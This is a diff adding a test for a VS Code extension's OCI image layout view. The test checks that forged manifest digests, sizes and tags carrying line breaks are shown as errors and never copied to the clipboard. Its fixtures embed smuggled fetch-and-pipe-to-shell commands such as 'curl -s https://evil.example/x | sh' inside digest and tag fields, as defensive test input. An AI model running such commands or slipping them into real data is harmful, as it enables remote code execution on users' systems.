@@ -6,6 +6,7 @@ import * as vscode from 'vscode';
 import { LayoutTarget } from '../../../src/core/layout/LayoutTarget';
 import { counted } from '../../../src/core/oci/counted';
 import { MediaType } from '../../../src/core/oci/mediaTypes';
+import { digestOf } from '../../../src/core/content/hashing';
 import { OciError } from '../../../src/core/oci/errors';
 import { listReferrers } from '../../../src/core/graph/referrers';
 import type { StowageTestApi as StowageApi } from '../../../src/vscode/testApi';
@@ -158,6 +159,76 @@ describe('Image Layouts view', function () {
     const copy = await LayoutTarget.open(path.join(crowded, 'kept'));
     assert.equal((await copy.resolve('copied')).digest, seeded.descriptor.digest);
   });
+  it('a manifest listing a digest that is none, or a layout tag holding a line break, is shown as an error and never copied', async () => {
+    const folder = path.join(workspaceRoot(), 'layouts', 'hostile-digests');
+    made.push(folder);
+    const layout = await LayoutTarget.open(folder, { create: true });
+    const seeded = await pushTextArtifact(layout, { 'h.txt': 'fine' }, { tag: 'fine' });
+    const forged = 'sha256:0000\ncurl -s https://evil.example/x | sh\n';
+    const index = Buffer.from(
+      JSON.stringify({
+        schemaVersion: 2,
+        mediaType: MediaType.ociIndex,
+        manifests: [
+          seeded.descriptor,
+          { ...seeded.descriptor, digest: forged },
+          { ...seeded.descriptor, size: '5\nSBOM: clean' },
+        ],
+      }),
+    );
+    await layout.pushManifest({ mediaType: MediaType.ociIndex, digest: digestOf(index), size: index.length }, index, {
+      tag: 'hostile',
+    });
+    // A tag written by hand: a layout's index.json may name a manifest with anything.
+    const indexFile = path.join(folder, 'index.json');
+    const written = JSON.parse(fs.readFileSync(indexFile, 'utf8'));
+    written.manifests.push({
+      ...seeded.descriptor,
+      annotations: { 'org.opencontainers.image.ref.name': 'v1\ncurl x|sh' },
+    });
+    fs.writeFileSync(indexFile, JSON.stringify(written));
+    await vscode.commands.executeCommand('stowage.layouts.refresh');
+
+    const node = await layoutNode(folder);
+    const hostile = await child(api.layouts, node, 'hostile');
+    const entries = await children(api.layouts, hostile);
+    assert.deepEqual(
+      entries.map((e) => e.type),
+      ['manifest', 'error'],
+      'the usable entry, then one error for the others',
+    );
+    const error = entries[1]!;
+    const text = String(api.layouts.getTreeItem(error).label);
+    assert.match(
+      text,
+      /^content: manifest sha256:[0-9a-f]{64}: 2 unusable entries; entry 1 has an invalid digest "sha256:0000/,
+    );
+    assert.doesNotMatch(text, /\n/);
+
+    const copies = new ScriptedPrompts();
+    const forgedNode = { ...(entries[0] as object), descriptor: { ...seeded.descriptor, digest: forged } };
+    await vscode.env.clipboard.writeText('untouched');
+    for (const command of [
+      'stowage.artifact.copyDigest',
+      'stowage.artifact.copyReference',
+      'stowage.artifact.copyPinnedReference',
+    ])
+      assert.equal(
+        await answering(api, copies, () => vscode.commands.executeCommand(command, forgedNode)),
+        undefined,
+        command,
+      );
+    const badTag = (await children(api.layouts, node)).find((n) => n.type === 'manifest' && n.tag?.startsWith('v1'));
+    assert.ok(badTag, 'the hand-written tag is listed');
+    assert.equal(
+      await answering(api, copies, () => vscode.commands.executeCommand('stowage.artifact.copyReference', badTag)),
+      undefined,
+    );
+    assert.equal(await vscode.env.clipboard.readText(), 'untouched', 'nothing reached the clipboard');
+    assert.equal(copies.notifications.length, 4, JSON.stringify(copies.notifications));
+    for (const n of copies.notifications) assert.match(n.message, /failed: .*(is invalid|Not copied)/);
+  });
+
   it('Push, Copy To and Add Tag ask for the tag alike: a default where one exists, problems as sentences', async () => {
     const folder = path.join(workspaceRoot(), 'layouts', 'tags');
     made.push(folder);
